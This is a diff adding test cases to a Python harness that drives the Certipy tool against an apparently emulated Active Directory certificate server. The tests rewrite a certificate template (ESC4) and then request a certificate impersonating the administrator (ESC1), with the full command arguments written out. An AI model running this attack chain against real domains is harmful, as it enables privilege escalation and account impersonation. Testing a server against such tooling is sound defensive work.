@@ -1903,6 +1903,59 @@ def _(ctx):
     check(("CONTOSO\\alice", "simple") in binds, "bind journal: %s" % binds)
 
 
+# certipy template (ESC4): a template rewritten over LDAP by an account its
+# DACL lets write it, refused for one it does not; the next request (over
+# RPC) is issued from the changed template. Registered last: they change
+# IPSECIntermediateOffline for the rest of the server's life.
+ESC4_TEMPLATE = "IPSECIntermediateOffline"
+
+
+def admin_upn(ctx):
+    return ctx.server.info["admin"]["user"].split("\\")[-1].lower() + "@" + DNS_DOMAIN
+
+
+def check_template_write(ctx, exe, write_args, updated):
+    ldap_server(ctx)
+    admin_password = ctx.server.info["admin"]["password"]
+    base = exe + ["template", "-dc-ip", ctx.server.host, "-template", ESC4_TEMPLATE] + list(write_args)
+    out = run_certipy(ctx, base + ["-u", "alice@contoso.test", "-p", ALICE[1]])
+    expect(out, "doesn't have permission to update", "alice's write")
+    out = run_certipy(ctx, base + ["-u", admin_upn(ctx), "-p", admin_password])
+    expect(out, updated, "the administrator's write")
+    modifies = [(e.get("user"), e.get("status")) for e in ldap_journal(ctx, "ldap/modify")]
+    check(("CONTOSO\\alice", 50) in modifies and (ctx.server.info["admin"]["user"], 0) in modifies,
+          "modify journal: %s" % modifies)
+
+
+def check_esc1_request(ctx, exe):
+    s = ctx.server
+    rpc_server(ctx)
+    out = run_certipy(ctx, exe + ["req", "-u", "alice@contoso.test", "-p", ALICE[1], "-ca", s.ca_name(),
+                                  "-target-ip", s.host, "-dc-ip", s.host, "-dynamic-endpoint",
+                                  "-template", ESC4_TEMPLATE, "-upn", "administrator@contoso.test", "-timeout", "15"])
+    expect(out, "Got certificate with UPN 'administrator@contoso.test'")
+    pfx = files_with(ctx.workdir, ".pfx")
+    check(pfx, "no .pfx: %s" % out_tail(out))
+    _key, cert = load_pfx(os.path.join(ctx.workdir, pfx[0]))
+    check([u.lower() for u in san_upns(cert)] == ["administrator@contoso.test"], "pfx UPN %r" % san_upns(cert))
+    check_issued_by(cert, s.ca_cert())
+
+
+@case("certipy5.template_write_default_configuration_then_esc1", modes=("enterprise",), transports=("http",))
+def _(ctx):
+    exe = certipy5_exe()
+    check_template_write(ctx, exe, ["-write-default-configuration", "-force", "-no-save"],
+                         "Successfully updated '%s'" % ESC4_TEMPLATE)
+    check_esc1_request(ctx, exe)
+
+
+@case("certipy.template_save_old_then_esc1", modes=("enterprise",), transports=("http",))
+def _(ctx):
+    exe = certipy_exe()
+    check_template_write(ctx, exe, [], "Successfully updated '%s'" % ESC4_TEMPLATE)
+    check_esc1_request(ctx, exe)
+
+
 
 def selected(name, patterns):
     if not patterns:
